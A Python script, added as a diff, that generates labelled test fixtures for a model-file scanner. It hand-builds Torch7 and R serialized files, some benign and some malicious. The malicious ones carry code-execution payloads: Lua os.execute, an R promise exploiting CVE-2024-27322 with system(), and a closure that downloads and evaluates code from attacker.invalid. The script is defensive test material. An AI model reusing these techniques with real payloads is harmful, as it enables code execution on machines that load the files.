@@ -1,0 +1,384 @@
+"""Writes the legacy-format and container-image fixtures of ModelGate's format corpus.
+
+test/fixtures/formats/legacy-and-oci/ + labels.json. Deterministic: run it again and the bytes are the same.
+Formats and the published layouts each file follows:
+
+* Torch7 .t7 - torch/torch7 File.lua (writeObject/readObject), generic/Tensor.c and generic/Storage.c
+  (`write`: nDimension, sizes, strides, storageOffset + 1, storage; storage: size then elements).
+  Binary mode: little-endian int32 / int64 / float64; ascii mode: THDiskFile text with one newline after
+  each value. No torch7 can be installed here, so every file is built by hand from that source.
+* R serialized files - R Internals "Serialization Formats" and src/main/serialize.c (ReadItem). Benign files
+  are written by rdata (its writer) or were written by R itself (rdata's own test data); the files with
+  code are built by hand and read back with rdata's parser, which shows the closure/promise objects.
+* MXNet - src/nnvm/legacy_json_util.cc and nnvm's saveload_json.cc (symbol JSON: nodes, arg_nodes,
+  node_row_ptr, heads, attrs), src/ndarray/ndarray.cc (NDArray::Save/Load: list magic 0x112, NDArray
+  magic 0xF993fac9 V2 with storage type, TShape as int32 ndim + int64 dims, Context, dtype flag, data).
+* OCI image layout - opencontainers/image-spec image-layout.md, manifest.md, descriptor.md, layer.md;
+  docker save - moby image/spec/v1.2.md (manifest.json with Config, RepoTags, Layers).
+"""
+
+from __future__ import annotations
+
+import gzip
+import io
+import json
+import struct
+import tarfile
+import hashlib
+from pathlib import Path
+
+import numpy as np
+import pandas as pd
+import rdata
+
+ROOT = Path(__file__).resolve().parent.parent / "test" / "fixtures" / "formats" / "legacy-and-oci"
+LABELS: list[dict] = []
+RDATA = f"rdata {rdata.__version__}"
+
+
+def label(path: str, expect, fmt: str, made_by: str, what: str) -> None:
+    LABELS.append({"path": path, "expect": expect, "format": fmt, "madeBy": made_by, "what": what})
+
+
+def write(path: str, data: bytes) -> None:
+    out = ROOT / path
+    out.parent.mkdir(parents=True, exist_ok=True)
+    out.write_bytes(data)
+
+
+def gz(data: bytes) -> bytes:
+    return gzip.compress(data, mtime=0)
+
+
+# ---------------------------------------------------------------- Torch7 (File.lua, binary and ascii mode)
+
+T7_SPEC = "hand-built from torch7 File.lua writeObject and generic/Tensor.c, generic/Storage.c write"
+
+
+class T7Writer:
+    """File.lua writeObject; `ascii` follows THDiskFile's ascii mode (each value then a newline)."""
+
+    def __init__(self, ascii_mode: bool = False):
+        self.ascii = ascii_mode
+        self.out = io.BytesIO()
+        self.index = 0
+
+    def int(self, v: int):
+        self.out.write(f"{v}\n".encode() if self.ascii else struct.pack("<i", v))
+
+    def long(self, v: int):
+        self.out.write(f"{v}\n".encode() if self.ascii else struct.pack("<q", v))
+
+    def double(self, v: float):
+        self.out.write(f"{v!r}\n".encode() if self.ascii else struct.pack("<d", v))
+
+    def chars(self, b: bytes):
+        self.out.write(b + (b"\n" if self.ascii else b""))
+
+    def string(self, s: bytes | str):
+        b = s.encode() if isinstance(s, str) else s
+        self.int(2)
+        self.int(len(b))
+        self.chars(b)
+
+    def next_index(self) -> int:
+        self.index += 1
+        return self.index
+
+    def table(self, items: list[tuple]):
+        self.int(3)
+        self.int(self.next_index())
+        self.int(len(items))
+        for k, v in items:
+            self.value(k)
+            self.value(v)
+
+    def value(self, v):
+        if v is None:
+            self.int(0)
+        elif isinstance(v, bool):
+            self.int(5)
+            self.int(1 if v else 0)
+        elif isinstance(v, (int, float)):
+            self.int(1)
+            self.double(float(v))
+        elif isinstance(v, (str, bytes)):
+            self.string(v)
+        elif callable(v):
+            v(self)
+        elif isinstance(v, dict):
+            self.table(list(v.items()))
+        else:
+            raise TypeError(v)
+
+    def torch_header(self, class_name: str):
+        self.int(4)
+        self.int(self.next_index())
+        for s in (b"V 1", class_name.encode()):
+            self.int(len(s))
+            self.chars(s)
+
+    def float_tensor(self, values: np.ndarray):
+        values = np.asarray(values, dtype="<f4")
+        self.torch_header("torch.FloatTensor")
+        self.int(values.ndim)
+        strides = [s // 4 for s in values.strides]
+        for d in values.shape:
+            self.long(d)
+        for s in strides:
+            self.long(s)
+        self.long(1)  # storageOffset + 1
+        self.torch_header("torch.FloatStorage")
+        self.long(values.size)
+        if self.ascii:
+            self.chars(" ".join(repr(float(x)) for x in values.ravel()).encode())
+        else:
+            self.out.write(values.tobytes())
+
+    def module(self, class_name: str, fields: dict):
+        self.torch_header(class_name)
+        self.table(list(fields.items()))
+
+    def function(self, dumped: bytes, upvalues: dict):
+        """TYPE_RECUR_FUNCTION: index, the string.dump bytes, then the upvalue table."""
+        self.int(8)
+        self.int(self.next_index())
+        self.int(len(dumped))
+        self.chars(dumped)
+        self.table(list(upvalues.items()))
+
+
+def tensor(a):
+    return lambda w: w.float_tensor(a)
+
+
+def linear(w: T7Writer, n_in: int, n_out: int):
+    rng = np.random.default_rng(n_in * 100 + n_out)
+    w.module(
+        "nn.Linear",
+        {
+            "weight": tensor(rng.standard_normal((n_out, n_in))),
+            "bias": tensor(rng.standard_normal(n_out)),
+            "train": True,
+        },
+    )
+
+
+def sequential(extra: dict | None = None):
+    def build(w: T7Writer):
+        modules = {
+            1: lambda w: linear(w, 8, 4),
+            2: lambda w: w.module("nn.ReLU", {"train": True, "inplace": False}),
+            3: lambda w: linear(w, 4, 2),
+        }
+        w.module("nn.Sequential", {"modules": modules, "train": True, **(extra or {})})
+
+    return build
+
+
+def t7(path: str, build, ascii_mode=False) -> bytes:
+    w = T7Writer(ascii_mode)
+    w.value(build)
+    data = w.out.getvalue()
+    write(path, data)
+    return data
+
+
+def torch7_fixtures():
+    t7("torch7/mlp-sequential.t7", sequential())
+    label("torch7/mlp-sequential.t7", "benign", "torch7", T7_SPEC,
+          "nn.Sequential of nn.Linear, nn.ReLU, nn.Linear with float tensors, binary mode")
+    t7("torch7/mlp-sequential-ascii.t7", sequential(), ascii_mode=True)
+    label("torch7/mlp-sequential-ascii.t7", "benign", "torch7", T7_SPEC,
+          "the same nn.Sequential saved in ascii mode (torch.save(f, m, 'ascii'))")
+    rng = np.random.default_rng(7)
+    t7("torch7/tensor-table.t7", {"embeddings": tensor(rng.standard_normal((16, 8))), "epoch": 12, "name": "emb"})
+    label("torch7/tensor-table.t7", "benign", "torch7", T7_SPEC, "a Lua table of a FloatTensor, a number and a string")
+
+    # loadstring compiles source text as well as bytecode: this "dump" is Lua source that runs a shell
+    # command when the model calls its updateOutput (nn.Module:forward calls self:updateOutput).
+    payload = b"local self, input = ...; os.execute('touch /tmp/modelgate-t7-pwned'); return input"
+    hook = lambda w: w.function(payload, {1: {"name": "_ENV"}})  # noqa: E731
+    t7("torch7/sequential-updateoutput-os-execute.t7", sequential({"updateOutput": hook}))
+    label("torch7/sequential-updateoutput-os-execute.t7", "malicious", "torch7", T7_SPEC,
+          "nn.Sequential whose updateOutput is a serialized function (Lua source calling os.execute) that forward() runs")
+    # A dump starting with the PUC Lua 5.1 bytecode signature (header only, body not executable here).
+    bytecode = b"\x1bLua\x51\x00\x01\x04\x08\x04\x08\x00" + b"\x00" * 20
+    t7("torch7/function-bytecode.t7", lambda w: w.function(bytecode, {}))
+    label("torch7/function-bytecode.t7", "malicious", "torch7", T7_SPEC,
+          "a top-level serialized function whose dump starts with the Lua 5.1 bytecode signature")
+    t7("torch7/foreign-class.t7", lambda w: w.module("evil.Loader", {"path": "/etc/passwd"}))
+    label("torch7/foreign-class.t7", "suspicious", "torch7", T7_SPEC,
+          "a Torch object of class evil.Loader: torch.load runs that package's constructor and read method")
+    good = t7("torch7/unknown-tag.t7", {"a": 1.0})
+    bad = good[:12] + struct.pack("<i", 42) + good[16:]
+    write("torch7/unknown-tag.t7", bad)
+    label("torch7/unknown-tag.t7", "invalid", "torch7", T7_SPEC, "a table whose first key has the unknown type tag 42")
+    full = t7("torch7/truncated-storage.t7", tensor(np.ones((32, 32))))
+    write("torch7/truncated-storage.t7", full[: len(full) - 100])
+    label("torch7/truncated-storage.t7", "invalid", "torch7", T7_SPEC, "a FloatTensor whose storage is cut short")
+
+
+# ---------------------------------------------------------------- R serialization (serialize.c)
+
+R_SPEC = "hand-built from R Internals (Serialization Formats) and serialize.c; read back with " + RDATA + " (reader, used as the oracle)"
+
+
+class RWriter:
+    """serialize.c OutItem for XDR streams, enough for the objects below."""
+
+    def __init__(self):
+        self.out = io.BytesIO()
+
+    def int(self, v: int):
+        self.out.write(struct.pack(">i", v))
+
+    def flags(self, type_: int, attr=False, tag=False, obj=False, levels=0):
+        self.int(type_ | (obj << 8) | (attr << 9) | (tag << 10) | (levels << 12))
+
+    def charsxp(self, s: str):
+        b = s.encode()
+        self.flags(9, levels=64)  # ASCII_MASK, as R writes ASCII strings
+        self.int(len(b))
+        self.out.write(b)
+
+    def sym(self, name: str):
+        self.flags(1)
+        self.charsxp(name)
+
+    def nil(self):
+        self.int(254)
+
+    def strsxp(self, *values: str):
+        self.flags(16)
+        self.int(len(values))
+        for v in values:
+            self.charsxp(v)
+
+    def real(self, *values: float):
+        self.flags(14)
+        self.int(len(values))
+        self.out.write(struct.pack(f">{len(values)}d", *values))
+
+    def call(self, fn: str, *args):
+        """LANGSXP fn(args...): args are callables writing one item each."""
+        self.flags(6)
+        self.sym(fn)
+        for a in args:
+            self.flags(2)
+            a()
+        self.nil()
+
+    def stream(self, body, version=3) -> bytes:
+        head = b"X\n" + struct.pack(">iii", version, 0x040301, 0x030500 if version == 3 else 0x020300)
+        if version == 3:
+            head += struct.pack(">i", 5) + b"UTF-8"
+        body()
+        return head + self.out.getvalue()
+
+
+def r_oracle(path: str) -> str:
+    """What rdata's parser reads from the file: proof that it is R serialization data of that type."""
+    parsed = rdata.parser.parse_file(ROOT / path)
+    return parsed.object.info.type.name
+
+
+def r_fixtures():
+    frame = pd.DataFrame({"height": [1.5, 1.7, 1.8], "weight": [60.0, 72.5, 80.1], "group": ["a", "b", "a"]})
+    (ROOT / "r").mkdir(parents=True, exist_ok=True)
+    rdata.write_rds(ROOT / "r/measurements-frame.rds", frame, compression=None)
+    # saveRDS's gzip layer, with a fixed mtime so the bytes do not change from run to run.
+    write("r/measurements-frame.rds", gz((ROOT / "r/measurements-frame.rds").read_bytes()))
+    assert r_oracle("r/measurements-frame.rds") == "VEC"
+    label("r/measurements-frame.rds", "benign", "gzip", f"{RDATA} (write_rds)",
+          "a gzip-compressed RDS of a data frame (numeric and character columns)")
+    rdata.write_rds(ROOT / "r/coefficients.rds", np.arange(12, dtype=float).reshape(3, 4), compression=None)
+    assert r_oracle("r/coefficients.rds") == "REAL"
+    label("r/coefficients.rds", "benign", "rds", f"{RDATA} (write_rds)", "an uncompressed RDS of a numeric 3x4 matrix")
+    rdata.write_rda(ROOT / "r/model-weights.rda", {"weights": np.linspace(0, 1, 5), "labels": ["x", "y"]}, compression=None)
+    assert r_oracle("r/model-weights.rda") == "LIST"
+    label("r/model-weights.rda", "benign", "rdata", f"{RDATA} (write_rda)",
+          "an uncompressed RData file with a numeric vector and a character vector")
+    r_data = Path(rdata.__file__).parent / "tests" / "data" / "test_dataframe.rds"
+    write("r/r-written-dataframe.rds", r_data.read_bytes())
+    label("r/r-written-dataframe.rds", "benign", "gzip", "R (saveRDS), shipped as test data of " + RDATA,
+          "a gzip-compressed RDS of a data frame written by R itself")
+
+    # CVE-2024-27322: a top-level promise; whoever touches the value readRDS returns runs its expression.
+    w = RWriter()
+    data = w.stream(lambda: (
+        w.flags(5, tag=True), w.int(253),  # PROMSXP, tag = environment R_GlobalEnv
+        w.int(252),  # value: R_UnboundValue (not forced yet)
+        w.call("system", lambda: w.strsxp("touch /tmp/modelgate-r-pwned")),
+    ))
+    # rdata's parser has no R_UnboundValue (type 252): the oracle reads a copy whose value is NULL instead.
+    write("r/promise-system.rds", data.replace(struct.pack(">i", 252), struct.pack(">i", 254), 1))
+    assert r_oracle("r/promise-system.rds") == "PROM"
+    write("r/promise-system.rds", data)
+    label("r/promise-system.rds", "malicious", "rds", R_SPEC,
+          "an unforced promise (CVE-2024-27322) whose expression calls system(); rdata reads a PROM object "
+          "(from a copy with the unbound value, which rdata does not know, replaced by NULL)")
+
+    # A list whose predict element is a closure evaluating downloaded text: eval(parse(text = readLines(url(...)))).
+    w = RWriter()
+    closure = lambda: (  # noqa: E731
+        w.flags(3, tag=True), w.int(253),  # CLOSXP, environment R_GlobalEnv
+        w.flags(2, tag=True), w.sym("x"), w.int(251), w.nil(),  # formals: alist(x = )
+        w.call("eval", lambda: w.call("parse", lambda: w.call("readLines", lambda: w.call("url", lambda: w.strsxp("http://attacker.invalid/p.R"))))),
+    )
+    data = w.stream(lambda: (
+        w.flags(19, attr=True), w.int(2), w.real(0.5, 0.25), closure(),
+        w.flags(2, tag=True), w.sym("names"), w.strsxp("coef", "predict"), w.nil(),
+    ))
+    write("r/list-closure-eval-parse.rds", data)
+    assert r_oracle("r/list-closure-eval-parse.rds") == "VEC"
+    assert rdata.parser.parse_file(ROOT / "r/list-closure-eval-parse.rds").object.value[1].info.type.name == "CLO"
+    write("r/list-closure-eval-parse.rds.gz", gz(data))
+    label("r/list-closure-eval-parse.rds", "malicious", "rds", R_SPEC,
+          "a list with a closure calling eval(parse(readLines(url(...)))); rdata reads element 2 as CLO")
+    label("r/list-closure-eval-parse.rds.gz", "malicious", "gzip", R_SPEC,
+          "the same RDS gzip-compressed, as saveRDS writes it: reached through the gzip handler")
+
+    # An environment with an active binding (gp bit 15 on the frame cell): reading `x` calls the function.
+    w = RWriter()
+    fn = lambda: (w.flags(3, tag=True), w.int(253), w.nil(), w.call("system2", lambda: w.strsxp("id")))  # noqa: E731
+    data = w.stream(lambda: (
+        w.flags(4), w.int(0), w.int(253),  # ENVSXP unlocked, enclosure R_GlobalEnv
+        w.flags(2, tag=True, levels=1 << 15), w.sym("x"), fn(), w.nil(),  # frame
+        w.nil(), w.nil(),  # hash table, attributes
+    ))
+    write("r/env-active-binding.rds", data)
+    assert r_oracle("r/env-active-binding.rds") == "ENV"
+    label("r/env-active-binding.rds", "malicious", "rds", R_SPEC,
+          "an environment whose x is an active binding calling system2(); rdata reads an ENV")
+
+    w = RWriter()
+    data = w.stream(lambda: (
+        w.flags(3, tag=True), w.int(253),
+        w.flags(2, tag=True), w.sym("x"), w.int(251), w.nil(),
+        w.call("+", lambda: w.sym("x"), lambda: w.real(1.0)),
+    ))
+    write("r/closure-plus-one.rds", data)
+    assert r_oracle("r/closure-plus-one.rds") == "CLO"
+    label("r/closure-plus-one.rds", "suspicious", "rds", R_SPEC,
+          "a closure function(x) x + 1: code, though it calls nothing that runs commands; rdata reads a CLO")
+
+    w = RWriter()
+    data = w.stream(lambda: (w.flags(99), w.int(0)))
+    write("r/unknown-type.rds", data)
+    label("r/unknown-type.rds", "invalid", "rds", "hand-built from R Internals (Serialization Formats) and serialize.c",
+          "a stream whose item has the undefined type 99")
+    full = (ROOT / "r/coefficients.rds").read_bytes()
+    write("r/truncated.rds", full[:-40])
+    label("r/truncated.rds", "invalid", "rds", f"{RDATA} (write_rds), then cut short",
+          "the numeric matrix RDS with its last 40 bytes removed")
+
+
+def main():
+    torch7_fixtures()
+    r_fixtures()
+    (ROOT / "labels.json").write_text(json.dumps({"files": LABELS}, indent=2) + "\n")
+
+
+if __name__ == "__main__":
+    main()
